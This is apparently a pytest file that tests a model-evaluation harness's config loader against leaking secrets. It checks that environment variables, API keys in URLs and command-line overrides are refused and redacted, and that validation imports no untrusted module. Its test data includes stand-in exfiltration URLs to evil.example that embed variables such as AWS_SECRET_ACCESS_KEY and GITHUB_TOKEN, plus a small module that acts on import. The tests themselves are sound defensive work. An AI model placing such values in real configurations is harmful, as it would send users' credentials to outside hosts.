"""What a config may send away, show and import: it may be a stranger's."""

from __future__ import annotations

from pathlib import Path

import pytest
from command_line import harness
from loopback import completion, serving

from harness import config, pipeline
from harness.errors import ConfigError, hide_keys
from harness.servers.connection import Address
from harness.servers.server import announce

ROWS = '{"id": "a", "text": "The council met. It voted."}\n'


def written(folder: Path, model: str, more: str = "") -> Path:
    (folder / "rows.jsonl").write_text(ROWS, "utf-8")
    path = folder / "run.yaml"
    path.write_text(
        f"articles: rows.jsonl\nmodels:\n  m: {model}\n"
        + ("" if "prompts:" in model else "prompts: {plain: '{{ article.text }}'}\n")
        + f"verifier: lexical\nscorers: [length]\n{more}",
        "utf-8",
    )
    return path


def served(**options: str) -> str:
    given = {"base_url": "http://127.0.0.1:9/v1", **options}
    return "{kind: openai_api, model: m, " + ", ".join(f"{key}: {value}" for key, value in given.items()) + "}"


@pytest.mark.parametrize(
    ("model", "named"),
    [
        (served(base_url="'http://evil.example/${AWS_SECRET_ACCESS_KEY}/v1'"), "AWS_SECRET_ACCESS_KEY"),
        (served(base_url="'http://${USER}.evil.example/v1'"), "USER"),
        (served(extra="{user: '${HOME}'}"), "HOME"),
        (served(extra="{metadata: {x: ['${DATABASE_URL:-none}']}}"), "DATABASE_URL"),
        ("{kind: openai_api, base_url: 'http://127.0.0.1:9/v1', model: '${GITHUB_TOKEN}'}", "GITHUB_TOKEN"),
        ("{kind: 'somebody:AsksServer', model: '${GITHUB_TOKEN}'}", "GITHUB_TOKEN"),
        (served() + "\nprompts: {plain: '{{ article.text }} ${GITHUB_TOKEN}'}", "GITHUB_TOKEN"),
    ],
)
def test_a_variable_that_is_not_named_for_it_is_not_put_into_what_is_sent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, model: str, named: str
) -> None:
    monkeypatch.setenv(named, "the-value")
    monkeypatch.delenv("HARNESS_ALLOW_ENV", raising=False)
    with pytest.raises(ConfigError) as caught:
        config.load(written(tmp_path, model), imports=False)
    assert f"the environment variable {named} is not put in here" in str(caught.value)
    assert "the-value" not in str(caught.value)
    monkeypatch.setenv("HARNESS_ALLOW_ENV", f"OTHER, {named}")
    config.load(written(tmp_path, model), imports=False)


def test_variables_that_are_named_for_it_are_put_in(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("JUDGE_BASE_URL", "http://127.0.0.1:9/v1")
    monkeypatch.setenv("HARNESS_USER", "ada")
    monkeypatch.setenv("API_MODEL", "wise")
    found = config.load(
        written(
            tmp_path,
            "{kind: openai_api, base_url: '${JUDGE_BASE_URL}', model: '${API_MODEL}', "
            "extra: {user: '${HARNESS_USER}'}}",
        )
    ).models["m"]
    assert found.model_dump(include={"base_url", "model", "extra"}) == {
        "base_url": "http://127.0.0.1:9/v1",
        "model": "wise",
        "extra": {"user": "ada"},
    }


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "SSH_PRIVATE_KEY", "GITHUB_TOKEN", "HOME", "DATABASE_URL"])
def test_api_key_env_takes_names_of_keys_for_servers_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv(name, "the-value")
    path = written(tmp_path, served(api_key_env=name))
    with pytest.raises(ConfigError, match=f"api_key_env names {name}, .* HARNESS_ALLOW_ENV={name}"):
        config.load(path)
    monkeypatch.setenv("HARNESS_ALLOW_ENV", name)
    config.load(path)


@pytest.mark.parametrize("name", ["MISTRAL_API_KEY", "OTHER_KEY", "HF_TOKEN", "REPLICATE_API_TOKEN", "HARNESS_JUDGE"])
def test_usual_names_of_keys_are_taken(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.setenv(name, "the-value")
    config.load(written(tmp_path, served(api_key_env=name)))


@pytest.mark.parametrize(
    "url",
    [
        "http://sk-t0psecret@evil.example/v1",
        "http://me:t0psecret@evil.example/v1",
        "http://evil.example:t0psecret/v1",
        "http://evil.example/v1#t0psecret",
        "http://evil.example/sk-t0psecret/v1",
        "http://evil.example/v1?key=t0psecret",
        "http://[evil/t0psecret",
    ],
)
@pytest.mark.parametrize("place", ["file", "--set"])
def test_a_key_in_an_address_is_refused_and_not_repeated(tmp_path: Path, url: str, place: str) -> None:
    path = written(tmp_path, served(base_url=f"'{url}'") if place == "file" else served())
    result = harness("validate", path, *(("--set", f"models.m.base_url={url}") if place == "--set" else ()))
    assert result.exit_code == 2
    assert "t0psecret" not in result.output
    assert "base_url" in result.output


KEY = "sk-proj-aBcDeFgH1234567890"


@pytest.mark.parametrize("override", [KEY, f"models.m.max_new_tokens={KEY}", f"models.m.kind={KEY}", f"limit={KEY}",
                                      f"models.m.extra.x={KEY}", f"{KEY}=1"])  # fmt: skip  # one list
def test_a_key_on_the_command_line_is_refused_and_not_repeated(tmp_path: Path, override: str) -> None:
    result = harness("validate", written(tmp_path, served()), "--set", override)
    assert result.exit_code == 2
    assert KEY not in result.output


def test_what_looks_like_a_key_is_hidden_in_every_error() -> None:
    assert hide_keys(f"it said Bearer abcdefghijklmnop and {KEY}.") == "it said Bearer … and sk-…."
    assert KEY not in str(ConfigError(f"cannot read {KEY}"))


@pytest.mark.parametrize(
    "key",
    [
        "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH",
        "hf_" + "aBcDeFgH12iJkLmNoPqR",
        "sk-" + "0123456789abcdef" * 2,
        "sk-" + "aBcD3" * 9 + "-x",
        "sk-ant-api03-" + "aB_c-" * 8,
        "sk-or-v1-" + "0123456789abcdef" * 4,
        "sk-proj-aB_c-D3fG-h",
        "sk-aB_cD-eF_gH-iJ_kL3mNo",
        "sk-lf-0c1f2a3b-4d5e-6f70",
        "gsk_" + "aBcDeF12" * 6,
    ],
)
def test_a_key_of_each_provider_is_hidden(key: str) -> None:
    assert key[:16] not in hide_keys(f"token {key} is wrong")
    assert key[-4:] not in hide_keys(f"token={key}")


def test_a_variable_that_only_sounds_like_a_secret_is_put_in(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in (("MAX_TOKENS", "80"), ("AUTHOR", "Ada"), ("KEYWORDS", "the vote")):
        monkeypatch.setenv(name, value)
    prompts = "\nprompts: {plain: '{{ article.text }} As ${AUTHOR}, on ${KEYWORDS}'}"
    loaded = config.load(written(tmp_path, served(max_new_tokens="'${MAX_TOKENS}'") + prompts), imports=False)
    assert loaded.models["m"].max_new_tokens == 80  # type: ignore[attr-defined]  # of openai_api


def test_a_run_is_read_and_scored_whatever_variables_its_prompts_were_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No summary is made, so nothing of them is sent."""
    monkeypatch.setenv("GITHUB_TOKEN", "x")
    monkeypatch.setenv("HARNESS_ALLOW_ENV", "GITHUB_TOKEN")
    path = written(
        tmp_path,
        "{kind: lead}",
        f"output: {tmp_path}/run\nprompts: {{p: '{{{{ article.text }}}} ${{GITHUB_TOKEN}}'}}\n",
    )
    path.write_text(path.read_text("utf-8").replace("prompts: {plain: '{{ article.text }}'}\n", ""), "utf-8")
    pipeline.run(config.load(path))
    monkeypatch.delenv("HARNESS_ALLOW_ENV")
    assert pipeline.score(tmp_path / "run").results.manifest.status == "complete"


@pytest.mark.parametrize(
    "name", ["hf_cnn_dailymail.yaml", "sk-learn-summaries-2024", "hf_mistral_7b_instruct", "gsk_news_articles_2024"]
)
def test_a_name_that_begins_like_a_key_is_shown_and_taken(tmp_path: Path, name: str) -> None:
    assert hide_keys(f"{name}: there is no such file") == f"{name}: there is no such file"
    config.load(written(tmp_path, served(served_as=name)))


def test_validate_imports_no_module_of_others(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "evil_on_import.py").write_text("import pathlib\npathlib.Path(__file__).with_name('ran').touch()\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    path = written(tmp_path, "{kind: 'evil_on_import:Model', any: 1, base: other}")
    path.write_text(path.read_text().replace("[length]", "[length, 'evil_on_import:Scorer']"), "utf-8")
    result = harness("validate", path)
    assert result.exit_code == 0
    assert "evil_on_import:Model is not imported here; its options are checked when it runs" in result.output
    assert not (tmp_path / "ran").exists()


def test_an_output_outside_of_the_working_folder_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    path = written(tmp_path, "{kind: lead}", "output: elsewhere\n")
    assert "outside of the working folder" in harness("validate", path).output
    assert "outside of" not in harness("validate", path, "-o", tmp_path / "asked-for").output
    path.write_text(path.read_text().replace("elsewhere", "here/results"), "utf-8")
    assert "outside of" not in harness("validate", path).output


def test_hosts_are_told_once_before_they_are_asked(capsys: pytest.CaptureFixture[str]) -> None:
    openai = "https://api.openai.com/v1"
    for url in ("http://judge.example:8000/v1", "http://judge.example:8000/v1", "http://127.0.0.1:1/v1", openai):
        announce(Address(url, "MY_KEY", "value", 0, 1.0, 1.0))
    told = "harness: asking judge.example (http://judge.example:8000/v1), with the key in MY_KEY\n"
    assert capsys.readouterr().err == told


def test_a_run_tells_the_host_first(tmp_path: Path) -> None:
    """Of a name of this machine that is not known to be one."""
    with serving(lambda *_: completion("Peace.", model="m")) as server:
        url = server.url.replace("127.0.0.1", "localhost.localdomain")
        result = harness("run", written(tmp_path, served(base_url=f"'{url}'", retries="0"), "output: out\n"), "-q")
    assert f"harness: asking localhost.localdomain ({url})" in result.output
